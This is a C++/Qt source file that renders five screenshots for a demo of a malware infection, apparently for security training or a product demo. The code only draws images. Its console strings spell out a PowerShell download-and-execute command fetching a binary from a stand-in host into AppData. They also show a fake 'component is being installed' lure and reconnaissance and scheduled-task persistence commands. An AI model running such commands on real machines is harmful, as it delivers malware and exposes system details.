// SPDX-License-Identifier: GPL-3.0-or-later
// Draws the screenshots of the demo's story: `demo_screens FOLDER` writes 0001.jpg to 0005.jpg. Run by the build.
#include "canvas.h"

#include <QDir>
#include <QGuiApplication>

using namespace Qt::StringLiterals;

namespace {

const QString Document = u"Remittance advice - Word processor"_s;
const QRect DocumentFrame {150, 40, 1010, 690};
const QString Folder = u"C:\\Users\\analyst\\AppData\\Roaming\\NetSvc"_s;

void deskIsReady(screens::Canvas& canvas)
{
    canvas.desktop(u"09:00\n3/2/2026"_s, {});
}

void documentOpens(screens::Canvas& canvas)
{
    canvas.desktop(u"09:00\n3/2/2026"_s, {u"Remittance advice"_s});
    canvas.document(DocumentFrame, Document, true);
}

void powerShellRuns(screens::Canvas& canvas)
{
    canvas.desktop(u"09:00\n3/2/2026"_s, {u"Remittance advice"_s, u"PowerShell"_s});
    canvas.document(DocumentFrame, Document, false);
    const QRect inside = canvas.window({210, 210, 860, 430}, u"Administrator: PowerShell"_s, QColor(24, 28, 36),
                                       QColor(1, 36, 86));
    canvas.console(inside,
                   {u"PowerShell 5.1"_s, u""_s, u"PS C:\\Users\\analyst\\Documents> $u='http://cdn.example.net/office/update.bin'"_s,
                    u"PS C:\\Users\\analyst\\Documents> $p=\"$env:APPDATA\\NetSvc\\netsvchelper.exe\""_s,
                    u"PS C:\\Users\\analyst\\Documents> (New-Object Net.WebClient).DownloadFile($u,$p)"_s, u""_s,
                    u"  Writing web request"_s, u"    [ooooooooooooooooooooooooooooooooooo                      ]"_s,
                    u"    6144 bytes written"_s, u""_s, u"PS C:\\Users\\analyst\\Documents> cmd /c start \"\" $p"_s},
                   QColor(238, 242, 248));
}

void loaderIsThere(screens::Canvas& canvas)
{
    canvas.desktop(u"09:01\n3/2/2026"_s, {u"Remittance advice"_s, u"NetSvc"_s});
    canvas.document(DocumentFrame, Document, false);
    canvas.folder({560, 130, 640, 380}, Folder, {u"netsvchelper.exe"_s, u"netsvc.dat"_s});
    canvas.message({330, 430, 470, 210}, u"Word processor"_s,
                   u"The document could not be shown. Its content needs a component that is being installed."_s);
}

void systemIsListed(screens::Canvas& canvas)
{
    canvas.desktop(u"09:02\n3/2/2026"_s, {u"NetSvc"_s, u"systeminfo"_s});
    canvas.folder({90, 400, 560, 300}, Folder, {u"netsvchelper.exe"_s, u"netsvc.dat"_s, u"out.tmp"_s});
    const QRect inside = canvas.window({330, 90, 820, 500}, u"C:\\Windows\\System32\\cmd.exe"_s, QColor(30, 30, 32),
                                       QColor(12, 12, 12));
    canvas.console(inside,
                   {u"C:\\Windows\\System32> whoami.exe /all"_s, u""_s, u"USER INFORMATION"_s, u"----------------"_s,
                    u"desktop-demo01\\analyst"_s, u""_s, u"C:\\Windows\\System32> systeminfo.exe /fo csv"_s, u""_s,
                    u"\"Host Name\",\"OS Name\",\"System Manufacturer\""_s,
                    u"\"DESKTOP-DEMO01\",\"Windows 10 Pro\",\"Example Corporation\""_s, u""_s,
                    u"C:\\Windows\\System32> schtasks.exe /query /tn NetSvcHelper"_s, u""_s,
                    u"TaskName          Next Run Time          Status"_s,
                    u"================  =====================  ======"_s,
                    u"NetSvcHelper      3/2/2026 9:31:00 AM    Ready"_s},
                   QColor(220, 222, 226));
}

} // namespace

int main(int argc, char** argv)
{
    QGuiApplication app(argc, argv);
    const QString folder = QGuiApplication::arguments().value(1);
    if (folder.isEmpty() || !QDir().mkpath(folder))
        return 2;
    int number = 0;
    for (const auto scene : {deskIsReady, documentOpens, powerShellRuns, loaderIsThere, systemIsListed}) {
        screens::Canvas canvas;
        scene(canvas);
        if (!canvas.save(u"%1/%2.jpg"_s.arg(folder).arg(++number, 4, 10, '0'_L1)))
            return 1;
    }
    return 0;
}
